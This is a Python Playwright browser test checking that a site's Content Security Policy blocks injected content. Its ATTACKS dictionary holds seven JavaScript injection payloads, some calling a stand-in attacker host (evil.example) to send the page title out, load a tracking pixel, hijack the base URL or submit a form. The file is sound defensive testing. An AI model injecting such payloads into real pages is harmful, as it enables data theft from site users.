"""A script that got into a page does not run, and nothing in a page reaches a stranger's server."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page

from tests.waiting import wait_until

pytestmark = pytest.mark.browser

ATTACKS = {
    "script-src-elem": "document.body.append(made('script', {textContent: 'window.stolen = true'}))",
    "script-src-attr": "made('img', {src: 'data:,'}).setAttribute('onerror', 'window.stolen = true')",
    "connect-src": "fetch('http://evil.example/?' + document.title).catch(() => {})",
    "img-src": "document.body.append(made('img', {src: 'http://evil.example/pixel'}))",
    "base-uri": "document.head.append(made('base', {href: 'http://evil.example/'}))",
    "object-src": "document.body.append(made('object', {data: 'http://evil.example/'}))",
    "form-action": "document.body.appendChild(made('form', {action: 'http://evil.example/'})).submit()",
}


@pytest.mark.parametrize("rule", ATTACKS)
def test_promise_23_what_got_into_a_page_stays_there(home: Page, rule: str) -> None:
    home.evaluate(f"""() => {{
        window.made = (name, given) => Object.assign(document.createElement(name), given);
        window.refused = [];
        document.addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
        {ATTACKS[rule]};
    }}""")
    refused = wait_until(lambda: home.evaluate("() => refused"), what="the policy's refusal")
    assert refused == [rule]
    assert home.evaluate("() => window.stolen ?? null") is None
